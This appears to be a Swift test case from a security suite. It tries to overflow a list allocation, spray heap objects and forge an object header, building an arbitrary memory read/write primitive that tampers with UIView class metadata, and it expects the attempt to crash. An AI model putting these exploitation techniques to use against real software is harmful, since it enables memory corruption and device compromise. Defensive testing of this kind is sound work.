// Attack: has a list moved into a block that is too small, by room for more elements than there are addresses.
// Exercise: 3
// Expect: crashed
// Held by: the kit reserves room for a list that there can be
import UIKit

final class Head { var count = Int.max, capacity = Int.max }
final class Holder { var p = 1, q = 2; var list: [Int] = [] }
@MainActor enum Mem {
    static let head = Head()
    static var holders: [Holder?] = []
    static var moved: [Int] = []
    static var at = -1
    static var base: UInt = 0
    static func begin() {
        base = UInt(bitPattern: ObjectIdentifier(head)) &+ 32
        for _ in 0..<200 { holders.append(Holder()) }
        func address(_ of: AnyObject) -> Int { Int(bitPattern: ObjectIdentifier(of)) }
        moved = [0, 0x31, Int(bitPattern: ObjectIdentifier(Holder.self)), 3, 1, 2, address(head)]
        holders[150] = nil
        moved.reserveCapacity(1 << 61)
        for i in holders.indices where holders[i]?.list.count == Int.max { at = i }
    }
    static subscript(a: UInt) -> Int {
        get { holders[at]!.list[Int((a &- base) >> 3)] }
        set { holders[at]!.list[Int((a &- base) >> 3)] = newValue }
    }
}
class BaseView: UIView {
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23320
    static var old = 0
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.base == 0 { Mem.begin() }
        BaseView.old = Mem[BaseView.kinds]
        Mem[BaseView.kinds] = 0
        defer { Mem[BaseView.kinds] = BaseView.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[BaseView.kinds] = BaseView.old
        return super.point(inside: point, with: event)
    }
}
